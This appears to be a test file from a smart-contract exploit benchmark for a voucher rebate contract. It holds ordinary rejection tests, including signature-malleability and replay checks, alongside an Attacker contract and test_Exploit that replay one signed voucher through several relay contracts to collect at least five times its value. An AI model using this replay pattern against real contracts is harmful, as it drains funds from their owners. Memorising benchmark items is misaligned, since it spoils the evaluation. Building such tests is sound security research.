// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./FerryRebates.sol";

// assay-canary-2dc9689a-d11b-4d0a-9884-0e9ad0bec904

interface Vm {
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
}

contract PierToken {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

/// Submits vouchers of others, as anyone may.
contract Kiosk {
    function submit(FerryRebates desk, FerryRebates.Voucher calldata voucher, bytes calldata signature) external {
        desk.redeem(voucher, signature);
    }

    function giveUp(FerryRebates desk, uint256 nonce) external {
        desk.giveUp(nonce);
    }
}

/// A traveller with a single voucher, who submits it from several accounts.
contract Attacker {
    function run(FerryRebates desk, FerryRebates.Voucher calldata voucher, bytes calldata signature) external {
        desk.redeem(voucher, signature);
        for (uint256 i = 0; i < 7; i++) {
            Kiosk another = new Kiosk();
            try another.submit(desk, voucher, signature) {} catch {}
        }
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    uint256 private constant ISSUER_KEY = 0x5eaf00d;

    PierToken public token;
    FerryRebates private desk;
    Kiosk private kiosk;
    Kiosk private ida;
    Attacker private mallory;

    FerryRebates.Voucher private idaVoucher;
    FerryRebates.Voucher private joVoucher;
    FerryRebates.Voucher private lostVoucher;
    FerryRebates.Voucher private ownVoucher;
    bytes private idaSignature;
    bytes private joSignature;
    bytes private lostSignature;
    bytes private ownSignature;

    function setUp() public {
        token = new PierToken();
        desk = new FerryRebates(IRebateToken(address(token)), vm.addr(ISSUER_KEY), 1000e18);
        token.mint(address(desk), 5000e18);
        kiosk = new Kiosk();
        ida = new Kiosk();
        mallory = new Attacker();

        idaVoucher = FerryRebates.Voucher(address(ida), 40e18, 7, block.timestamp + 30 days);
        joVoucher = FerryRebates.Voucher(address(0x10), 60e18, 300, block.timestamp + 30 days);
        ownVoucher = FerryRebates.Voucher(address(mallory), 100e18, 1, block.timestamp + 30 days);
        lostVoucher = FerryRebates.Voucher(address(ida), 5e18, 9, block.timestamp + 30 days);
        idaSignature = _signed(idaVoucher);
        lostSignature = _signed(lostVoucher);
        joSignature = _signed(joVoucher);
        ownSignature = _signed(ownVoucher);
    }

    function test_Regular() public {
        FerryRebates.Voucher[] memory vouchers = new FerryRebates.Voucher[](2);
        bytes[] memory signatures = new bytes[](2);
        (vouchers[0], vouchers[1]) = (idaVoucher, joVoucher);
        (signatures[0], signatures[1]) = (idaSignature, joSignature);
        desk.redeemMany(vouchers, signatures);
        require(token.balanceOf(address(ida)) == 40e18, "ida is paid");
        require(token.balanceOf(address(0x10)) == 60e18, "jo is paid");
        require(desk.paidOn(block.timestamp / 1 days) == 100e18, "day total");

        // the same batch again
        (bool twice, ) = address(desk).call(abi.encodeCall(FerryRebates.redeemMany, (vouchers, signatures)));
        require(!twice, "batch paid twice");

        // another amount than the signed one
        FerryRebates.Voucher memory raised = ownVoucher;
        raised.amount += 1;
        (bool forged, ) = address(desk).call(abi.encodeCall(FerryRebates.redeem, (raised, ownSignature)));
        require(!forged, "changed voucher paid");

        // a nonce given up by the traveller who submits it
        ida.giveUp(desk, 9);
        (bool revived, ) = address(ida).call(abi.encodeCall(Kiosk.submit, (desk, lostVoucher, lostSignature)));
        require(!revived, "nonce given up was paid");

        // the daily limit
        desk.setDailyLimit(150e18);
        (bool over, ) = address(kiosk).call(abi.encodeCall(Kiosk.submit, (desk, ownVoucher, ownSignature)));
        require(!over, "limit passed");
        desk.setDailyLimit(200e18);
        kiosk.submit(desk, ownVoucher, ownSignature);
        require(token.balanceOf(address(mallory)) == 100e18, "paid through a kiosk");

        desk.setPaused(true);
        require(desk.paused(), "paused");
        desk.setIssuer(address(0x155));
        require(desk.issuer() == address(0x155), "another issuer");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The line alone changes the desk.
    function test_RefusesStrangers() public {
        refuses(address(ida), FerryRebates.OnlyLine.selector);
        desk.setIssuer(address(ida));
        refuses(address(ida), FerryRebates.OnlyLine.selector);
        desk.setDailyLimit(1);
        refuses(address(ida), FerryRebates.OnlyLine.selector);
        desk.setPaused(true);
    }

    /// Vouchers in time, signed in the one way, and as many as signatures.
    function test_RefusesVouchers() public {
        FerryRebates.Voucher memory late = FerryRebates.Voucher(address(ida), 1, 3, block.timestamp - 1);
        bytes memory signature = _signed(late);
        refuses(address(ida), abi.encodeWithSelector(FerryRebates.VoucherExpired.selector, late.deadline));
        desk.redeem(late, signature);
        vm.expectRevert(FerryRebates.LengthMismatch.selector);
        desk.redeemMany(new FerryRebates.Voucher[](0), new bytes[](1));
        FerryRebates.Voucher memory mine = idaVoucher;
        signature = abi.encodePacked(idaSignature, uint8(0));
        refuses(address(ida), FerryRebates.BadSignature.selector);
        desk.redeem(mine, signature);
        (bytes32 r, bytes32 s, uint8 v) = _parts(idaSignature);
        uint256 order = 0xfffffffffffffffffffffffffffffffebaaedce6af48a03bbfd25e8cd0364141;
        signature = abi.encodePacked(r, bytes32(order - uint256(s)), v == 27 ? uint8(28) : uint8(27));
        refuses(address(ida), FerryRebates.BadSignature.selector);
        desk.redeem(mine, signature);
        desk.setIssuer(address(0));
        signature = abi.encodePacked(r, s, uint8(1));
        refuses(address(ida), FerryRebates.BadSignature.selector);
        desk.redeem(mine, signature);
    }

    function _parts(bytes memory signature) private pure returns (bytes32 r, bytes32 s, uint8 v) {
        assembly {
            r := mload(add(signature, 32))
            s := mload(add(signature, 64))
            v := byte(0, mload(add(signature, 96)))
        }
    }

    /// Nothing is paid while the desk is paused, or where the token says no.
    function test_RefusesWhilePaused() public {
        FerryRebates.Voucher memory mine = idaVoucher;
        bytes memory signature = idaSignature;
        token.sleep(true);
        refuses(address(ida), FerryRebates.TransferFailed.selector);
        desk.redeem(mine, signature);
        desk.setPaused(true);
        refuses(address(ida), FerryRebates.Paused.selector);
        desk.redeem(mine, signature);
        vm.expectRevert(FerryRebates.Paused.selector);
        desk.redeemMany(new FerryRebates.Voucher[](0), new bytes[](0));
    }

    function exploit() public {
        mallory.run(desk, ownVoucher, ownSignature);
    }

    function test_Exploit() public {
        uint256 before = token.balanceOf(address(mallory));
        exploit();
        require(token.balanceOf(address(mallory)) - before >= 500e18, "paid no more than the voucher");
    }

    function _signed(FerryRebates.Voucher memory voucher) private returns (bytes memory) {
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(ISSUER_KEY, desk.digestOf(voucher));
        return abi.encodePacked(r, s, v);
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
